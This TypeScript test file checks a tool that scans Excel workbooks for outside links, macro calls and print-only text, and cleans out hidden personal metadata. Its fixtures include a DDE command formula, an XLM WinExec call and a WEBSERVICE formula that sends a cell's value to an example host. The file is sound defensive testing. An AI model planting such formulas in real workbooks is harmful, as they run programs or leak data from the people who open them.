import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { FindingKind } from '../../reading.ts';
import { cleanOffice } from '../cleaning/clean-office.ts';
import {
  type Extra,
  formula,
  main,
  names,
  read,
  rule,
  secret,
  workbook,
} from '../fixtures/made-workbooks.ts';
import { head } from '../fixtures/package-files.ts';

const b1 = 'シート『表』のB1';

type Case = [
  name: string,
  cells: readonly string[],
  extra: Extra,
  kind: FindingKind,
  places: readonly string[],
];

const cases: readonly Case[] = [
  [
    'a link in a formula',
    [formula('B1', 'HYPERLINK("\\\\sv01\\研究\\名簿.xlsx","公開")', '公開')],
    {},
    'outside-link',
    [b1],
  ],
  [
    'a link to a file beside it',
    [formula('B1', 'HYPERLINK("名簿.xlsx")', '名簿.xlsx')],
    {},
    'outside-link',
    [b1],
  ],
  [
    'a web service',
    [formula('B1', '_xlfn.WEBSERVICE("https://sakura-u.example/?q="&A1)', '公開')],
    {},
    'outside-link',
    [b1],
  ],
  [
    'a picture from the web',
    [formula('B1', '_xlfn.IMAGE("https://sakura-u.example/a.png")', '公開')],
    {},
    'outside-link',
    [b1],
  ],
  ['another program', [formula('B1', "cmd|'/c calc'!A0", '0')], {}, 'outside-link', [b1]],
  [
    'another workbook by its path',
    [formula('B1', "'C:\\研究\\[名簿.xlsx]表'!A1", '公開')],
    {},
    'outside-link',
    [b1],
  ],
  [
    'another workbook by its number',
    [formula('B1', "SUM('[1]単価 表'!A1:B2,[2]!率)", '1')],
    {},
    'outside-link',
    [b1],
  ],
  [
    'an address put together',
    [formula('B1', `INDIRECT("'[名簿.xlsx]表'!A"&A1)`, '公開')],
    {},
    'outside-link',
    [b1],
  ],
  [
    'a function of Google',
    [
      formula(
        'B1',
        'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""https://docs.example/d/1"",""A1"")"),"公開")',
        '公開',
      ),
    ],
    {},
    'outside-link',
    [b1],
  ],
  [
    'a name for a place on a share',
    [],
    names('<definedName name="置場">"\\\\sv01\\名簿"</definedName>'),
    'outside-link',
    ['名前『置場』'],
  ],
  [
    'a name for another workbook',
    [],
    names('<definedName name="率">[1]率!$A$1</definedName>'),
    'outside-link',
    ['名前『率』'],
  ],
  [
    'a validation by another workbook',
    [],
    {
      after:
        '<dataValidations><dataValidation type="list" sqref="B1"><formula1>[1]表!$A$1:$A$9</formula1></dataValidation></dataValidations>',
    },
    'outside-link',
    ['シート『表』の入力規則'],
  ],
  [
    'a condition on another workbook',
    [],
    {
      changes: ['<font><b/></font>'],
      after: rule('type="expression"', "<formula>'[1]表'!$A$1=1</formula>"),
    },
    'outside-link',
    ['シート『表』の条件付き書式'],
  ],
  [
    'a function of old macros',
    [formula('B1', 'CALL("kernel32","WinExec","JCJ","calc",0)', '0')],
    {},
    'macros',
    [b1],
  ],
  [
    'a name that asks the program',
    [],
    names('<definedName name="一覧">GET.WORKBOOK(1)</definedName>'),
    'macros',
    ['名前『一覧』'],
  ],
  [
    'a header',
    [],
    {
      after: `<headerFooter><oddHeader>&amp;L&amp;"游ゴシック,標準"&amp;12${secret}&amp;R&amp;P</oddHeader></headerFooter>`,
    },
    'print-only',
    ['シート『表』のヘッダー'],
  ],
  [
    'a footer of even pages',
    [],
    {
      after: `<headerFooter differentOddEven="1"><evenFooter>&amp;C${secret}</evenFooter></headerFooter>`,
    },
    'print-only',
    ['シート『表』の偶数ページのフッター'],
  ],
  [
    'what a validation says',
    [],
    {
      after: `<dataValidations><dataValidation sqref="B1:B9" promptTitle="記入" prompt="${secret}"/></dataValidations>`,
    },
    'print-only',
    ['シート『表』のB1:B9の入力規則のメッセージ'],
  ],
];

describe('where a workbook leads, what it calls, and what it says on paper alone', () => {
  it.each(cases)('%s', (_name, cells, extra, kind, places) => {
    const { found, pages } = read(workbook(cells, extra));
    expect(found).toEqual({ [kind]: places });
    expect(JSON.stringify(pages)).not.toContain(secret);
  });
});

describe('other parts of a workbook', () => {
  it.each<[type: string, part: string, kind: FindingKind]>([
    [
      'volatileDependencies',
      `<volTypes ${main}><volType type="realTimeData"/></volTypes>`,
      'outside-link',
    ],
    ['xmlMaps', `<MapInfo ${main}><Map ID="1"><DataBinding/></Map></MapInfo>`, 'outside-link'],
    ['rdRichValueStructure', `<rvStructures><s t="_entity"/></rvStructures>`, 'hidden-text'],
    ['connections', `<connections ${main}><connection name="人事"/></connections>`, 'outside-link'],
  ])('%s', (type, part, kind) => {
    const file = workbook([], {
      book: { relations: [['x', type, 'part.xml']] },
      files: { 'xl/part.xml': head + part },
    });
    expect(Object.keys(read(file).found)).toContain(kind);
  });
});

describe('what is taken out of a workbook on the way in', () => {
  const views = `<customWorkbookViews><customWorkbookView name="${secret} - 個人用ビュー" guid="{1}"/></customWorkbookViews>`;
  const ofView = `<customSheetViews><customSheetView guid="{1}"><headerFooter><oddHeader>${secret}</oddHeader></headerFooter></customSheetView></customSheetViews>`;
  const filter = `<definedNames><definedName name="Z_00000000_0000_0000_0000_000000000001_.wvu.FilterData" hidden="1" localSheetId="0" comment="${secret}">表!$A$1</definedName></definedNames>`;
  const link = (display: string) =>
    `<hyperlinks><hyperlink ref="A1" location="表!A1" display="${display}"/></hyperlinks>`;

  it.each<[name: string, extra: Extra]>([
    ['views of persons', { workbook: filter + views, after: ofView }],
    ['a view of one sheet', { after: ofView }],
    ['what a link said before', { after: link(`${secret}&#10;案`) }],
    [
      'where it was published',
      {
        after: `<webPublishItems><webPublishItem id="1" title="${secret}" destinationFile="C:\\a.htm"/></webPublishItems>`,
      },
    ],
  ])('%s', (_name, extra) => {
    const before = workbook([], extra);
    expect(Object.keys(read(before).found)).toEqual(['records']);
    const cleaned = cleanOffice(before, '.xlsx') ?? new Uint8Array();
    expect(read(cleaned)).toEqual({ ...read(before), found: {} });
    for (const part of Object.values(unzipSync(cleaned))) {
      expect(new TextDecoder().decode(part)).not.toContain(secret);
    }
    expect(cleanOffice(cleaned, '.xlsx')).toEqual(cleaned);
  });

  it('is not the address of a link, nor what its cell says', () => {
    expect(read(workbook([], { after: link('公開') })).found).toEqual({});
    expect(read(workbook([], { after: link('https://sakura-u.example/') })).found).toEqual({});
  });
});
